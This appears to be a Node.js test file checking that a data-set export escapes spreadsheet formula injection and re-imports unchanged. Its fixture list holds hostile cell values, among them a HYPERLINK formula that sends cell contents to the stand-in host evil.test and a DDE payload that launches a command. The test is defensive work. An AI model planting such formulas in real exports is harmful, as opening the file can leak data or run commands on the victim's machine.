import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { startApp } from '#test/harness/app.ts'
import { aDataset, unique, withNames } from '#test/harness/builders.ts'
import { aManager, anOrganization, aRole } from '#test/harness/features/directory/builders.ts'
import { importCalls } from '#test/harness/features/imports.ts'
import { portalCalls } from '#test/harness/http/portal-calls.ts'

const service = await startApp()
const { imported, content } = importCalls(service)

const profiles = [
  { role: await aRole(service), organizations: [await anOrganization(service, { code: 'HQ' })], include_below: true },
]
const manager = portalCalls(service).as(`manager:${await aManager(service, { profiles })}`)

/** What a colleague's spreadsheet would run, and texts that only look like what we make of it. */
const NAMES = [
  '=HYPERLINK("https://evil.test/?"&A1,"Paris")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(1;2)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  "'=1+1",
  "''@x",
  "'quoted'",
  "rock 'n' =roll",
  '-',
]

describe('the export of a data set', () => {
  test('holds no formula, and is imported again as what it was', async () => {
    const dataset = await aDataset(service, { dimensions: ['city'] })
    const values = NAMES.map((name, index) => ({ code: `c${index}`, names: { 'en-us': name } }))
    await withNames(service, dataset, [...values, { code: '-1', names: {} }, { code: '@home', names: {} }])
    const before = await content(dataset)

    const file = await manager('GET', `/admin/datasets/${dataset}/export`)

    assert.equal(file.statusCode, 200)
    // A cell begins at the beginning of a line or behind a comma, perhaps with a quote.
    assert.doesNotMatch(file.body.slice(1), /(?:^|\r\n|,)"?(?:[=+\-@\t＝＋－＠]|\r(?!\n))/)
    const again = await imported(dataset, file.body)
    assert.deepEqual([again.result, again.stats.values_updated, again.stats.values_deleted], ['success', 0, 0])
    const copy = await imported(unique('ds'), file.body)
    assert.deepEqual(await content(copy.dataset_id), before)
  })
})
